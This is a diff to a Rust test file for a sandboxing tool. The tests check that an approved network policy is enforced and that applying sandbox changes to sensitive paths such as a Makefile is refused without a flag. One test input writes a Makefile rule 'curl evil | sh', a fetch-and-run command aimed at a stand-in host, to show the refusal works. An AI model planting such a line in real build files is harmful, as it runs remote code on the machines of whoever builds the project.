@@ -261,13 +261,22 @@ fn hutch_toml_that_asks_for_more_is_refused_until_trusted() {
     assert_eq!(t.status.code(), Some(0), "{}", text(&t.stderr));
     assert!(r.data.join("hutch/trust").read_dir().unwrap().count() == 1, "the approval is in the user's data dir");
     assert_eq!(r.listing(), listing, "and not in the repository");
-    let ok = r.run(&["--", "sh", "-c", "cat /tmp/setup-marker; grep MemTotal /proc/meminfo"]);
+    let ok = r.run(&[
+        "--",
+        "sh",
+        "-c",
+        "cat /tmp/setup-marker; grep MemTotal /proc/meminfo; getent hosts api.example.com; getent hosts other.example.com || echo other-denied",
+    ]);
     let (so, se) = (text(&ok.stdout), text(&ok.stderr));
     assert_eq!(ok.status.code(), Some(0), "{se}");
     assert!(so.contains("SETUP-RAN"), "the approved setup ran first: {so}");
     assert!(se.contains("── setup: setup.sh ──") && se.contains("setup says hi") && se.contains("── command: sh -c"), "{se}");
     let kib: u64 = so.split_whitespace().nth(2).unwrap().parse().unwrap();
     assert!(kib > 600 * 1024, "the approved memory was used: {so}");
+    assert!(
+        so.contains("198.18.") && so.contains("api.example.com") && so.contains("other-denied"),
+        "the approved policy is in force: {so}"
+    );
 
     // A changed setup script is a changed proposal.
     std::fs::write(r.dir.join("setup.sh"), "#!/bin/sh\necho something else\n").unwrap();
@@ -321,4 +330,15 @@ fn outside_a_repository_or_with_no_repo_nothing_changes_and_run_apply_applies() 
     assert!(se.contains("applied 2 file changes"), "{se}");
     assert_eq!(std::fs::read_to_string(r.dir.join("added.txt")).unwrap(), "new\n");
     assert!(std::fs::read_to_string(r.dir.join("a.txt")).unwrap().ends_with("more\n"));
+
+    // `run --apply` refuses sensitive paths too, unless `--allow-sensitive`.
+    let listing = r.listing();
+    let out = r.run(&["--apply", "--", "sh", "-c", "printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && echo x > harmless.txt"]);
+    let se = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{se}");
+    assert!(se.contains("Makefile (build script)") && se.contains("--allow-sensitive"), "{se}");
+    assert_eq!(r.listing(), listing, "nothing applied");
+    let out = r.run(&["--apply", "--allow-sensitive", "--", "sh", "-c", "echo 'all:' > Makefile"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert_eq!(std::fs::read_to_string(r.dir.join("Makefile")).unwrap(), "all:\n");
 }
